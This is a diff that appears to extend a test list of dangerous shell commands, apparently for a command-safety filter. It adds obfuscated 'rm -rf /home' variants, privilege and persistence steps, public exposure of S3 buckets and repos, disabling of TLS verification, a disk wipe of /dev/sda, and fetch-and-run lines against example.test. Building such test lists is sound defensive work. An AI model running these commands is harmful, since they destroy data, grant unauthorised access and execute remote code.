@@ -41,6 +41,10 @@ f() { "$@"; }; f rm -rf /home
 f() { $1 -rf $2; }; f rm /home
 run() { eval "$*"; }; run rm -rf /home
 a=rm; eval '$a -rf /home'
+a=(r m); IFS=; "${a[*]}" -rf /home
+x=rm; declare -n y=x; $y -rf /home
+"$SHELL" <<< 'rm -rf /home'
+bash -O extglob -c 'rm -rf /home'
 export c='rm -rf /home'; sh -c '$c'
 c='rm -rf /home' bash -c '$c'
 bash -c '"$@"' _ rm -rf /home
@@ -291,6 +295,21 @@ su root -c id
 lxc exec host -- bash
 mv x /usr/bin/ls
 setfacl -m u:x:r /etc/shadow
+mount --bind / /mnt
+chmod ug+s x
+patch ~/.bashrc x.diff
+git clone x ~/.config/systemd/user
+docker run --ipc=host x
+kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=x
+aws s3api put-bucket-acl --acl public-read --bucket x
+gh repo edit --visibility public
+gh ssh-key add k
+git config --global http.sslVerify false
+git daemon --export-all --base-path=/
+ddrescue /dev/zero /dev/sda
+wget example.test/a.sh -P /tmp && bash /tmp/a.sh
+python3 <(curl -s https://example.test)
+bash --rcfile /tmp/x -i
 rpm -i http://example.test/a.rpm
 npm install a/b
 apt-get install --allow-unauthenticated x
